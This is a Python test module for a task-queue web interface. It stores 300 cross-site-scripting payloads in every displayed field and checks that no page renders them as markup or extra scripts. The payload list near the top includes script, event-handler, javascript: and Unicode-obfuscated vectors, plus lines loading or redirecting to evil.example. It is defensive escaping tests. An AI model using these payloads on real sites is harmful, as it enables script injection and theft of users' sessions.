"""Three hundred texts that attack a page, in every field that pages show: no page gets more markup by them."""

import re
from collections.abc import Iterator
from html.parser import HTMLParser
from itertools import cycle, product
from typing import Any

import msgspec
import pytest

from pitboss.engines.protocol import FullStore
from pitboss.model.access import AuditEntry, Role
from pitboss.model.alert import AlertState, Phase
from pitboss.model.alert_look import AlertNotes, ChannelNote, notes_text
from pitboss.model.alert_rules import rules_of
from pitboss.model.batch import NewBatch
from pitboss.model.duration import SECOND
from pitboss.model.happening import Happening, Kind
from pitboss.model.outcome import Failed, decide
from pitboss.model.policy import Policy
from pitboss.model.queue import HandlerInfo, QueueChange
from pitboss.model.resource import NewResource, PoolRules, ResourceChange
from pitboss.model.session import ClaimRequest, SessionInfo, Slot
from pitboss.model.settlement import Settlement
from pitboss.model.snapshot import CurrentTask, PoolFigures, ServerFigures, Snapshot, WorkerFigures, WorkerState
from pitboss.model.source import SourceFigures, SourceState
from pitboss.model.source_findings import KIND
from pitboss.model.task import NewTask, TaskError
from pitboss.model.text import one_line
from pitboss.operate.keys import create_key
from pitboss.operate.views import save_view
from tests.http.site import Site
from tests.http.web.pages import PAGES, inline

MARK = "zqzq"
_ENDS = (
    "", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</svg>", "</time>", "`", "\\\"", "&quot;>",
    "<!--", "</form><b ",
)  # fmt: skip
_ATTACKS = (
    f"<script>alert('{MARK}')</script>",
    f"<img src=x onerror=alert('{MARK}')>",
    f"<svg/onload=alert('{MARK}')>",
    f"<a href=javascript:alert('{MARK}')>x</a>",
    f"<iframe srcdoc='<script>{MARK}</script>'></iframe>",
    f"<math><mi xlink:href='data:x,{MARK}'>",
    f"<body onload={MARK}()>",
    f"<style>@import '//evil.example/{MARK}'</style>",
    f"<link rel=stylesheet href=//evil.example/{MARK}>",
    f"<meta http-equiv=refresh content='0;url=//evil.example/{MARK}'>",
    f"<base href=//evil.example/{MARK}/>",
    f"<button formaction=//evil.example/{MARK}>x",
    f"<input autofocus onfocus={MARK}()>",
    f"<details open ontoggle={MARK}()>",
    f' onmouseover={MARK}() style="x:{MARK}" ',
    f"javascript:alert('{MARK}')",
    f"{{{{ '{MARK}' * 7 }}}}{{% raw %}}",
    f"<div hx-get=/ui hx-trigger=load hx-on::load={MARK}>",
    f"<object data=data:text/html,{MARK}></object>",
    f"\u202e<scr\u0131pt>{MARK}</scr\u0131pt>\u2028<\u200bimg src=x>",
)
PAYLOADS = [f"{end}{attack}" for end, attack in product(_ENDS, _ATTACKS)]
_PLAIN = [f"plain text {MARK}"] * len(PAYLOADS)
_ROWS = 50


class _Markup(HTMLParser):
    """The elements of a page with the names of their attributes, as a browser reads them."""

    def __init__(self) -> None:
        super().__init__()
        self.found: set[tuple[str, frozenset[str]]] = set()
        self.scripts = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.add((tag, frozenset(name for name, _ in attrs)))
        self.scripts += tag == "script"


def markup(text: str) -> _Markup:
    reader = _Markup()
    reader.feed(text)
    return reader


async def fill(store: FullStore, make_id: Any, texts: list[str]) -> None:
    """Every text in lists that are long enough for it; and in fields that there are once, one after the other."""
    next_text = cycle(texts).__next__
    await store.register([HandlerInfo(name="send", queue="mail", resources="proxies")])
    await store.register([HandlerInfo(name="plain", queue="scrape")])
    await _tasks(store, make_id, texts)
    await store.change_queue("mail", QueueChange(paused=True, by=next_text(), reason=next_text()))
    await store.declare_pool("proxies", PoolRules())
    fields = [msgspec.json.encode({"url": text, "note": text}).decode() for text in texts[:40]]
    members = [NewResource(name=f"p{place}", fields=one) for place, one in enumerate(fields)]
    await store.add_resources("proxies", members)
    for member in members[:10]:
        await store.change_resources("proxies", [member.name], ResourceChange(enabled=False, reason=next_text()))
    for _ in range(8):
        data = msgspec.json.encode(next_text()).decode()
        batch = NewBatch(id=make_id(), name=next_text()[:200], data=data, by=next_text())
        await store.create_batch(batch, [NewTask(id=make_id(), handler="plain", queue="scrape")])
    for start in range(0, len(texts), _ROWS):
        log = [
            Happening(id=make_id(), at=store.clock.now(), kind=kind, subject=text, text=text, host=text)
            for text, kind in zip(texts[start : start + _ROWS], cycle((Kind.WORKER_CRASHED, Kind.ALERT)), strict=False)
        ]
        await store.record_happenings(log)
    for text in texts:
        details = msgspec.json.encode({text: text, "reason": text}).decode()
        entry = AuditEntry(id=make_id(), who=text, act=text, target=text, details=details, source=text)
        await store.audited(entry).wish("a", '"b"')
    for text in texts[:40]:
        await save_view(store, one_line(text[:60]), "queue:mail", by=text)
    await _alerts(store, texts)
    await _managers(store, texts)
    for place in range(3):
        secret = f"{'s' * 30}{place}"
        about: dict[str, Any] = {
            "by": next_text(),
            "make_id": lambda at=place: f"k{at}",
            "make_secret": lambda s=secret: s,
        }
        await create_key(store, f"key{place}", [Role.VIEWER], **about)  # fmt: skip


async def _tasks(store: FullStore, make_id: Any, texts: list[str]) -> None:
    """Tasks that wait, with parameters and tags; and tasks that failed, with errors."""
    session = (await store.open_session(SessionInfo(host="box0", pid=9, handlers=("plain",), ttl=3600 * SECOND))).number
    await store.put([NewTask(id=make_id(), handler="plain", queue="scrape", params=_params(text)) for text in texts])
    claimed = await store.claim(ClaimRequest(session=session, slots=(Slot(free=len(texts)),)))
    settled = []
    for place, (claim, text) in enumerate(zip(claimed.claims, texts, strict=True)):
        error = TaskError(category="error", type=text[:60], message=text, fingerprint=f"f{place}", retryable=False)
        transition = decide(claim, Failed(error), Policy(), store.clock.now(), 0.5)
        settled.append(Settlement(id=claim.id, token=claim.token, transition=transition))
    await store.settle(settled)
    await store.end_session(session)
    await store.put([NewTask(id=make_id(), handler="send", queue="mail", params=_params(text)) for text in texts])


def _params(text: str) -> str:
    return msgspec.json.encode({"to": text, text: 1}).decode()


async def _alerts(store: FullStore, texts: list[str]) -> None:
    rules, lead = rules_of({}), await store.open_session(SessionInfo(host=texts[0], pid=5, ttl=3600 * SECOND))
    now = store.clock.now()
    states = {
        rule.name: AlertState(phase=phase, since=now, value=1.0, about=text)
        for rule, phase, text in zip(rules, cycle((Phase.FIRING, Phase.PENDING)), cycle(texts[5:]), strict=False)
    }
    channels = {text: ChannelNote(type=text, handler=text) for text in texts[:40]}
    changed = [msgspec.structs.replace(rule, only=(texts[3],), channels=(texts[4],), action=texts[6]) for rule in rules]
    notes = AlertNotes(at=now, rules=tuple(changed), alerts=states, channels=channels)
    term = (await store.campaign(lead.number)).term
    await store.note_alerts(notes_text(notes), [], version=0, term=term)
    for place, rule in enumerate(rules[:4]):
        await store.silence_alert(rule.name, 3600 * SECOND, by=texts[place], reason=texts[-place - 1])


async def _managers(store: FullStore, texts: list[str]) -> None:
    """Managers whose host, version and workers attack; and a process that reads sources."""
    states = (WorkerState.PROCESSING, WorkerState.RESTARTING, WorkerState.CRASHED)
    for place, text in enumerate(texts[:3]):
        workers = tuple(
            WorkerFigures(
                name=f"w{at}{one}", state=state, why=one, running=1, tasks=(CurrentTask(id="x", handler=one),)
            )
            for at, (one, state) in enumerate(zip(texts, cycle(states), strict=False))
        )
        pool = PoolFigures(name="default", concurrency=4, wanted=2, why=text, paused=True, paused_by=text)
        shown = Snapshot(
            pools=(pool,), workers=workers, concurrency=4, target=text, version=text, logs=text, app=text, release=text,
            http=ServerFigures(url=text, state=text, why=text),
        )  # fmt: skip
        session = await store.open_session(SessionInfo(host=text, boot_id=f"{place}", pid=place, ttl=3600 * SECOND))
        await store.renew(session.number, msgspec.json.encode(shown).decode())
    figures = tuple(
        SourceFigures(
            name=text, queue=text, handler=text, state=SourceState.AWAY, why=text, out_state=SourceState.REFUSED,
            out_why=text, out_some=True, malformed=1, malformed_why=text, known_failed=1, requeued=1,
        )
        for text in texts
    )  # fmt: skip
    sources = await store.open_session(SessionInfo(host=texts[7], boot_id="s", pid=8, kind=KIND, ttl=3600 * SECOND))
    await store.renew(sources.number, msgspec.json.encode(figures).decode())


def read_all(site: Site, address: str) -> Iterator[str]:
    """A page, and those that its links to older rows lead to."""
    headers = {"Cookie": f"pitboss_key={site.admin}"}  # type: ignore[attr-defined]
    for _ in range(30):
        answer = site.http.get(address, headers=headers)
        assert answer.status_code == 200, (address, answer.text[-500:])
        yield answer.text
        found = re.search(r'rel="next" href="([^"]+)"', answer.text)
        if found is None:
            return
        address = found[1].replace("&amp;", "&")


@pytest.fixture(scope="module", params=[_PLAIN, PAYLOADS], ids=["plain", "hostile"])
def filled(request: pytest.FixtureRequest) -> Iterator[tuple[bool, Site]]:
    with Site() as site:
        site.do(fill(site.store, site.server.make_id, request.param))
        site.admin = site.key("admin")  # type: ignore[attr-defined]
        yield request.param is PAYLOADS, site


_known: dict[str, set[tuple[str, frozenset[str]]]] = {}
_ADDRESSES = [*PAGES, "/tasks?q=state:failed", "/tasks?q=queue:mail+state:pending", "/activity?kind=act"]


def test_there_are_three_hundred() -> None:
    assert len(set(PAYLOADS)) == 300


def test_no_text_becomes_markup(filled: tuple[bool, Site]) -> None:
    hostile, site = filled
    shown = 0
    for address in _ADDRESSES:
        for text in read_all(site, f"/ui{address}"):
            found = markup(text)
            if not hostile:
                _known.setdefault(address, set()).update(found.found)
                continue
            assert inline(text) == [], address
            more = {one for one in found.found if one not in _everything()}
            assert not more, (address, more)
            # A page with charts has two more than others.
            charts = 2 * (' data-chart="' in text)
            assert found.scripts == markup(site.http.get("/ui/login").text).scripts + 2 + charts, address
            shown += text.count(MARK)
    # They are shown, and not left out.
    assert not hostile or shown > 5 * len(PAYLOADS)


def _everything() -> set[tuple[str, frozenset[str]]]:
    return set().union(*_known.values())
